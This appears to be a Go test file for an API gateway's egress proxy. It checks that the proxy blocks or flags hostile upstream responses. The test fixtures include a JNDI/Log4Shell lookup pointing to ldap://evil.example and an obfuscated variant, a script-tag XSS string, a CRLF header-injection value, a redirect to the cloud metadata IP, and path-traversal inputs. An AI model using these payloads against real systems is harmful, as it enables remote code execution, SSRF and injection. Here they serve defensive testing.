@@ -1,0 +1,530 @@
+package egress
+
+import (
+	"bufio"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/apiguard/apiguard/internal/config"
+	"github.com/apiguard/apiguard/internal/events"
+	"github.com/apiguard/apiguard/internal/openapi"
+	"github.com/apiguard/apiguard/internal/pipeline"
+)
+
+// thirdParty is a TLS upstream standing in for a third-party API.
+func thirdParty(t *testing.T) (*httptest.Server, string, *sync.Map) {
+	t.Helper()
+	seen := &sync.Map{}
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		seen.Store("path", r.URL.EscapedPath())
+		seen.Store("query", r.URL.RawQuery)
+		seen.Store("xff", r.Header.Get("X-Forwarded-For"))
+		seen.Store("dropme", r.Header.Get("X-Drop-Me"))
+		seen.Store("auth", r.Header.Get("Authorization"))
+		switch strings.TrimPrefix(r.URL.Path, "/base") {
+		case "/v1/items":
+			w.Header().Set("Content-Type", "application/json")
+			w.Header().Set("Set-Cookie", "tp=1")
+			_, _ = io.WriteString(w, `{"items":[{"id":1,"name":"ok"}]}`)
+		case "/v1/echo":
+			b, _ := io.ReadAll(r.Body)
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = w.Write(b)
+		case "/v1/redirect":
+			http.Redirect(w, r, "http://169.254.169.254/", http.StatusFound)
+		case "/v1/big":
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, `"`+strings.Repeat("x", 5000)+`"`)
+		case "/v1/slow":
+			select {
+			case <-time.After(2 * time.Second):
+			case <-r.Context().Done():
+			}
+		case "/v1/html":
+			w.Header().Set("Content-Type", "text/html")
+			_, _ = io.WriteString(w, "<html></html>")
+		case "/v1/broken":
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, `{"a":`)
+		case "/v1/script":
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, `{"bio":"hi \u003cscript\u003ealert(1)\u003c/script\u003e"}`)
+		case "/v1/sqlerr":
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, `{"error":"You have an error in your SQL syntax near ''"}`)
+		case "/v1/jndi":
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, `{"name":"${${lower:j}ndi:ldap://evil.example/a}"}`)
+		case "/v1/crlf":
+			w.Header().Set("Content-Type", "application/json")
+			w.Header().Set("X-Next", "/x%0d%0aSet-Cookie:%20a=b")
+			_, _ = io.WriteString(w, `{}`)
+		case "/v1/teapot":
+			w.Header().Set("Content-Type", "application/json")
+			w.WriteHeader(418)
+			_, _ = io.WriteString(w, `{}`)
+		case "/v1/nocontent":
+			w.WriteHeader(204)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	ca := filepath.Join(t.TempDir(), "ca.pem")
+	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return srv, ca, seen
+}
+
+const thirdPartySpec = `
+openapi: 3.1.0
+info: {title: third party, version: "1"}
+servers: [{url: https://api.example/base}]
+paths:
+  /v1/items:
+    get:
+      responses:
+        '200':
+          description: items
+          content:
+            application/json:
+              schema: {type: object}
+  /v1/teapot:
+    get:
+      responses:
+        '200': {$ref: '#/components/responses/Ok'}
+  /v1/html:
+    get:
+      responses:
+        '2XX': {$ref: '#/components/responses/Ok'}
+components:
+  responses:
+    Ok:
+      description: ok
+      content:
+        application/json:
+          schema: {type: object}
+`
+
+// recorder captures emitted events.
+type recorder struct {
+	mu sync.Mutex
+	ev []events.Event
+}
+
+func (r *recorder) emit(e events.Event) {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.ev = append(r.ev, e)
+}
+
+func (r *recorder) rules() []string {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	var out []string
+	for _, e := range r.ev {
+		out = append(out, e.Rule+"/"+e.Verdict)
+	}
+	return out
+}
+
+func (r *recorder) last() events.Event {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	if len(r.ev) == 0 {
+		return events.Event{}
+	}
+	return r.ev[len(r.ev)-1]
+}
+
+// startProxy parses an egress config section (YAML, under egress:), and
+// serves the proxy on loopback.
+func startProxy(t *testing.T, section string, dir string) (string, *Proxy, *recorder) {
+	t.Helper()
+	doc := "apis:\n  - name: x\n    upstream: {urls: [\"http://127.0.0.1:1\"]}\negress:\n" + section
+	cfg, err := config.Parse([]byte(doc), func(string) (string, bool) { return "", false })
+	if err != nil {
+		t.Fatalf("config:\n%s\n%v", doc, err)
+	}
+	rec := &recorder{}
+	p, err := New(&config.Loaded{Config: cfg, Dir: dir}, pipeline.NewServices(pipeline.Services{Emit: rec.emit}))
+	if err != nil {
+		t.Fatalf("New: %v", err)
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	go func() { _ = p.Serve(ln) }()
+	t.Cleanup(func() { _ = p.Shutdown(t.Context()) })
+	return "http://" + ln.Addr().String(), p, rec
+}
+
+func destYAML(name, url, ca string, extra string) string {
+	s := fmt.Sprintf("  destinations:\n    - name: %s\n      url: %s\n      allow_cidrs: [127.0.0.1/32]\n      max_response_bytes: 4KiB\n      max_request_bytes: 1KiB\n      timeout: 500ms\n", name, url)
+	if ca != "" {
+		s += "      ca_file: " + ca + "\n"
+	}
+	for _, l := range strings.Split(strings.TrimSpace(extra), "\n") {
+		if l != "" {
+			s += "      " + strings.TrimSpace(l) + "\n"
+		}
+	}
+	return s
+}
+
+func TestProxy(t *testing.T) {
+	srv, ca, seen := thirdParty(t)
+	yaml := destYAML("pay", srv.URL+"/base", ca, "") +
+		"    - name: blocky\n      url: " + srv.URL + "/base\n      ca_file: " + ca + "\n      allow_cidrs: [127.0.0.1/32]\n      injection: block\n      methods: [GET]\n" +
+		"    - name: noca\n      url: " + srv.URL + "/base\n      allow_cidrs: [127.0.0.1/32]\n" +
+		"    - name: public\n      url: " + srv.URL + "/base\n      ca_file: " + ca + "\n"
+	base, _, rec := startProxy(t, yaml, "")
+	client := &http.Client{Timeout: 5 * time.Second}
+
+	tests := []struct {
+		name, method, path, body string
+		headers                  map[string]string
+		status                   int
+		rule                     string // last event's rule/verdict, "" for none
+	}{
+		{"pass", "GET", "/pay/v1/items?limit=2", "", map[string]string{"X-Forwarded-For": "10.0.0.1", "Connection": "X-Drop-Me", "X-Drop-Me": "1", "Authorization": "Bearer k"}, 200, ""},
+		{"post body", "POST", "/pay/v1/echo", `{"a":1}`, nil, 200, ""},
+		{"no content", "GET", "/pay/v1/nocontent", "", nil, 204, ""},
+		{"unknown destination", "GET", "/nope/v1/items", "", nil, 404, RuleUnknownDestination + "/block"},
+		{"root", "GET", "/", "", nil, 400, RuleBadPath + "/block"},
+		{"encoded slash", "GET", "/pay/v1%2f..%2fadmin", "", nil, 400, RuleBadPath + "/block"},
+		{"empty segment", "GET", "/pay//v1/items", "", nil, 400, RuleBadPath + "/block"},
+		{"method", "POST", "/blocky/v1/echo", `{}`, nil, 405, RuleMethodNotAllowed + "/block"},
+		{"request too large", "POST", "/pay/v1/echo", `"` + strings.Repeat("y", 2000) + `"`, nil, 413, RuleRequestTooLarge + "/block"},
+		{"tls not verified", "GET", "/noca/v1/items", "", nil, 502, RuleTLS + "/block"},
+		{"loopback not allowed", "GET", "/public/v1/items", "", nil, 502, RuleForbiddenAddress + "/block"},
+		{"redirect", "GET", "/pay/v1/redirect", "", nil, 502, RuleRedirect + "/block"},
+		{"too large", "GET", "/pay/v1/big", "", nil, 502, RuleResponseTooLarge + "/block"},
+		{"timeout", "GET", "/pay/v1/slow", "", nil, 504, RuleTimeout + "/block"},
+		{"content type", "GET", "/pay/v1/html", "", nil, 502, RuleContentType + "/block"},
+		{"invalid json", "GET", "/pay/v1/broken", "", nil, 502, RuleInvalidJSON + "/block"},
+		{"script observed", "GET", "/pay/v1/script", "", nil, 200, RuleInjection + "/observe"},
+		{"sql error observed", "GET", "/pay/v1/sqlerr", "", nil, 200, RuleInjection + "/observe"},
+		{"script blocked", "GET", "/blocky/v1/script", "", nil, 502, RuleInjection + "/block"},
+		{"jndi blocked", "GET", "/blocky/v1/jndi", "", nil, 502, RuleInjection + "/block"},
+		{"crlf header blocked", "GET", "/blocky/v1/crlf", "", nil, 502, RuleInjection + "/block"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			before := len(rec.rules())
+			req, _ := http.NewRequest(tt.method, base+tt.path, strings.NewReader(tt.body))
+			if tt.body == "" {
+				req.Body = nil
+			}
+			for k, v := range tt.headers {
+				req.Header.Set(k, v)
+			}
+			resp, err := client.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			body, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != tt.status {
+				t.Fatalf("%s %s = %d %s, want %d", tt.method, tt.path, resp.StatusCode, body, tt.status)
+			}
+			rules := rec.rules()
+			got := ""
+			if len(rules) > before {
+				got = rules[len(rules)-1]
+			}
+			if got != tt.rule {
+				t.Errorf("%s %s event = %q, want %q", tt.method, tt.path, got, tt.rule)
+			}
+			if tt.rule != "" {
+				ev := rec.last()
+				if ev.Category != "API10" || ev.Guard != "egress" || ev.RequestID == "" {
+					t.Errorf("event = %+v, want API10 egress with a request id", ev)
+				}
+			}
+			if strings.HasSuffix(tt.rule, "/block") {
+				if resp.Header.Get("Content-Type") != "application/problem+json" || !strings.Contains(string(body), strings.Split(tt.rule, "/")[0]) {
+					t.Errorf("%s answer = %q %s, want a problem naming the rule", tt.path, resp.Header.Get("Content-Type"), body)
+				}
+			}
+		})
+	}
+	// What the third party saw for the first call.
+	want := map[string]string{"path": "/base/v1/items", "query": "limit=2", "xff": "", "dropme": "", "auth": "Bearer k"}
+	// The later calls overwrote seen; repeat the first call and compare.
+	req, _ := http.NewRequest("GET", base+"/pay/v1/items?limit=2", nil)
+	req.Header.Set("X-Forwarded-For", "10.0.0.1")
+	req.Header.Set("Connection", "X-Drop-Me")
+	req.Header.Set("X-Drop-Me", "1")
+	req.Header.Set("Authorization", "Bearer k")
+	resp, err := client.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if string(body) != `{"items":[{"id":1,"name":"ok"}]}` || resp.Header.Get("Set-Cookie") != "" {
+		t.Errorf("answer = %s (Set-Cookie %q), want the third party's JSON without its cookie", body, resp.Header.Get("Set-Cookie"))
+	}
+	for k, v := range want {
+		got, _ := seen.Load(k)
+		if got != v {
+			t.Errorf("third party saw %s = %q, want %q", k, got, v)
+		}
+	}
+}
+
+// TestForwardProxyRefused: CONNECT and absolute-form requests (what an
+// HTTP_PROXY client sends) are refused.
+func TestForwardProxyRefused(t *testing.T) {
+	srv, ca, _ := thirdParty(t)
+	base, _, rec := startProxy(t, destYAML("pay", srv.URL, ca, ""), "")
+	addr := strings.TrimPrefix(base, "http://")
+	for _, line := range []string{"CONNECT example.com:443 HTTP/1.1", "GET http://example.com/ HTTP/1.1", "GET https://pay/v1/items HTTP/1.1"} {
+		t.Run(line, func(t *testing.T) {
+			c, err := net.Dial("tcp", addr)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer c.Close()
+			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+			fmt.Fprintf(c, "%s\r\nHost: example.com\r\n\r\n", line)
+			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			resp.Body.Close()
+			if resp.StatusCode != 405 {
+				t.Errorf("%s = %d, want 405", line, resp.StatusCode)
+			}
+			if r := rec.last().Rule; r != RuleForwardProxy {
+				t.Errorf("%s event = %q, want %s", line, r, RuleForwardProxy)
+			}
+		})
+	}
+	// Raw dot segments are refused too (a Go client would clean them).
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	fmt.Fprintf(c, "GET /pay/v1/../../other HTTP/1.1\r\nHost: x\r\n\r\n")
+	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 400 {
+		t.Errorf("dot segments = %d, want 400", resp.StatusCode)
+	}
+}
+
+type failingValidator struct{}
+
+func (failingValidator) ValidateResponse(*openapi.Spec, *openapi.Operation, int, string, any) error {
+	return errors.New("/items: expected array")
+}
+
+func TestSpec(t *testing.T) {
+	srv, ca, _ := thirdParty(t)
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "tp.yaml"), []byte(thirdPartySpec), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	base, p, rec := startProxy(t, destYAML("tp", srv.URL+"/base", ca, "spec: tp.yaml\ncontent_types: [application/json, text/html]"), dir)
+	client := &http.Client{Timeout: 5 * time.Second}
+	get := func(path string) int {
+		resp, err := client.Get(base + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	tests := []struct {
+		path   string
+		status int
+		rule   string
+	}{
+		{"/tp/v1/items", 200, ""},
+		{"/tp/v1/echo", 403, RuleUndocumentedOp},
+		{"/tp/v1/teapot", 502, RuleUndocumentedResponse},
+		{"/tp/v1/html", 502, RuleUndocumentedResponse},
+	}
+	for _, tt := range tests {
+		before := len(rec.rules())
+		if got := get(tt.path); got != tt.status {
+			t.Errorf("GET %s = %d, want %d", tt.path, got, tt.status)
+		}
+		rules := rec.rules()
+		got := ""
+		if len(rules) > before {
+			got = strings.Split(rules[len(rules)-1], "/")[0]
+		}
+		if got != tt.rule {
+			t.Errorf("GET %s event = %q, want %q", tt.path, got, tt.rule)
+		}
+	}
+	p.SetValidator(failingValidator{})
+	if got := get("/tp/v1/items"); got != 502 || rec.last().Rule != RuleSchema {
+		t.Errorf("GET with a failing validator = %d %s, want 502 %s", got, rec.last().Rule, RuleSchema)
+	}
+}
+
+func TestConfigErrors(t *testing.T) {
+	tests := []struct {
+		name, section, want string
+	}{
+		{"http url", "  destinations: [{name: a, url: \"http://api.example\"}]\n", "egress.destinations[0].url"},
+		{"credentials", "  destinations: [{name: a, url: \"https://u:p@api.example\"}]\n", "egress.destinations[0].url"},
+		{"bad name", "  destinations: [{name: \"a/b\", url: \"https://api.example\"}]\n", "egress.destinations[0].name"},
+		{"duplicate", "  destinations: [{name: a, url: \"https://api.example\"}, {name: a, url: \"https://b.example\"}]\n", "egress.destinations[1].name"},
+		{"injection", "  destinations: [{name: a, url: \"https://api.example\", injection: maybe}]\n", "egress.destinations[0].injection"},
+		{"cidr", "  destinations: [{name: a, url: \"https://api.example\", allow_cidrs: [\"x\"]}]\n", "egress.destinations[0].allow_cidrs[0]"},
+		{"connect", "  destinations: [{name: a, url: \"https://api.example\", methods: [CONNECT]}]\n", "egress.destinations[0].methods"},
+		{"ca file", "  destinations: [{name: a, url: \"https://api.example\", ca_file: /nonexistent.pem}]\n", "egress.destinations[0].ca_file"},
+		{"listen", "  listen: nope\n", "egress.listen"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			doc := "apis:\n  - name: x\n    upstream: {urls: [\"http://127.0.0.1:1\"]}\negress:\n" + tt.section
+			cfg, err := config.Parse([]byte(doc), func(string) (string, bool) { return "", false })
+			if err != nil {
+				t.Fatal(err)
+			}
+			_, err = New(&config.Loaded{Config: cfg}, nil)
+			if err == nil || !strings.Contains(err.Error(), tt.want+":") {
+				t.Errorf("New() error = %v, want one at %s", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestSplitPath(t *testing.T) {
+	tests := []struct {
+		in, name, rest string
+		ok             bool
+	}{
+		{"/pay/v1/items", "pay", "/v1/items", true},
+		{"/pay", "pay", "", true},
+		{"/pay/", "pay", "/", true},
+		{"/pay/a%20b", "pay", "/a%20b", true},
+		{"/", "", "", false},
+		{"/pay/../x", "", "", false},
+		{"/pay/./x", "", "", false},
+		{"/pay//x", "", "", false},
+		{"/pay/%2e%2e/x", "", "", false},
+		{"/pay/a%2Fb", "", "", false},
+		{"/pay/a%5cb", "", "", false},
+		{`/pay/a\b`, "", "", false},
+	}
+	for _, tt := range tests {
+		name, rest, ok := splitPath(tt.in)
+		if ok != tt.ok || ok && (name != tt.name || rest != tt.rest) {
+			t.Errorf("splitPath(%q) = %q, %q, %v, want %q, %q, %v", tt.in, name, rest, ok, tt.name, tt.rest, tt.ok)
+		}
+	}
+}
+
+func TestScan(t *testing.T) {
+	tests := []struct {
+		in   string
+		want bool
+	}{
+		{"plain text about scripts and SQL", false},
+		{"<SCRIPT>alert(1)</script>", true},
+		{"ORA-00933: SQL command not properly ended", true},
+		{"${jndi:ldap://x/a}", true},
+		{"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", true},
+		{"Hello ${name}", false},
+		{"select * from users where name = 'o''brien'", false},
+	}
+	for _, tt := range tests {
+		if got := scanText(tt.in) != ""; got != tt.want {
+			t.Errorf("scanText(%q) = %v, want %v", tt.in, got, tt.want)
+		}
+	}
+}
+
+func FuzzSplitPath(f *testing.F) {
+	for _, s := range []string{"/pay/v1/items", "/pay/../x", "/pay/%2e%2e/", "//x", "/a/b/c/"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		name, rest, ok := splitPath(s)
+		if !ok {
+			return
+		}
+		if name == "" || strings.Contains(rest, "..") && strings.Contains("/"+rest+"/", "/../") || strings.Contains(rest, "//") {
+			t.Fatalf("splitPath(%q) = %q, %q accepted", s, name, rest)
+		}
+	})
+}
+
+func FuzzScan(f *testing.F) {
+	for _, s := range []string{"<script>", "${jndi:x}", "${", "sqlstate["} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		_ = scanText(s)
+		_ = scanHeaders(http.Header{"X": {s}})
+	})
+}
+
+func BenchmarkProxyJSON(b *testing.B) {
+	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = io.WriteString(w, `{"items":[{"id":1,"name":"ok","description":"a plain description of an item"}]}`)
+	}))
+	defer srv.Close()
+	ca := filepath.Join(b.TempDir(), "ca.pem")
+	_ = os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o600)
+	doc := "apis:\n  - name: x\n    upstream: {urls: [\"http://127.0.0.1:1\"]}\negress:\n" + destYAML("pay", srv.URL, ca, "")
+	cfg, err := config.Parse([]byte(doc), func(string) (string, bool) { return "", false })
+	if err != nil {
+		b.Fatal(err)
+	}
+	p, err := New(&config.Loaded{Config: cfg}, nil)
+	if err != nil {
+		b.Fatal(err)
+	}
+	b.ReportAllocs()
+	for b.Loop() {
+		rec := httptest.NewRecorder()
+		p.ServeHTTP(rec, httptest.NewRequest("GET", "/pay/v1/items", nil))
+		if rec.Code != 200 {
+			b.Fatal(rec.Code, rec.Body.String())
+		}
+	}
+}
+
+// TestChunkedRequestTooLarge: a body without a declared length is capped
+// while it streams.
+func TestChunkedRequestTooLarge(t *testing.T) {
+	srv, ca, _ := thirdParty(t)
+	base, _, rec := startProxy(t, destYAML("pay", srv.URL+"/base", ca, ""), "")
+	body := io.MultiReader(strings.NewReader(`"`), strings.NewReader(strings.Repeat("z", 3000)), strings.NewReader(`"`))
+	req, _ := http.NewRequest("POST", base+"/pay/v1/echo", body)
+	req.ContentLength = -1
+	resp, err := (&http.Client{Timeout: 5 * time.Second}).Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 413 || rec.last().Rule != RuleRequestTooLarge {
+		t.Errorf("chunked 3000-byte body = %d %s, want 413 %s", resp.StatusCode, rec.last().Rule, RuleRequestTooLarge)
+	}
+}
